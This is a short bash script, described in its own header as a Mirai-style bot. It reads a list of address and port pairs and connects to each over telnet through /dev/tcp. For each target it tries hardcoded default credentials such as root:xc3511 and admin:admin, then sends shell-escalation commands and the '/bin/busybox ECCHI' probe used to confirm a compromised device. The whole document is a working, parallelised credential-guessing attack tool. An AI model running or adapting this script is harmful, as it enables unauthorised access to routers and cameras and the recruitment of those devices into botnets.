#!/bin/bash
# A bot in the manner of Mirai: telnet_bot.sh FILE PAUSE_S, where FILE has lines `ADDRESS PORT`. Guesses where somebody answers.
knock() {
  exec 3<>"/dev/tcp/$1/$2" || return
  for pair in root:xc3511 root:vizxv admin:admin root:888888; do
    read -r -t 3 -d ':' <&3 || return
    printf '%s\r\n' "${pair%%:*}" >&3
    read -r -t 3 -d ':' <&3 || return
    printf '%s\r\n' "${pair##*:}" >&3
  done
  printf 'enable\r\nsystem\r\nshell\r\n/bin/busybox ECCHI\r\n' >&3
  read -r -t 2 -d '#' <&3
}
export -f knock
while read -r address port; do
  timeout --foreground 12 bash -c "knock $address $port" 2>/dev/null &
  sleep "$2"
done <"$1"
wait
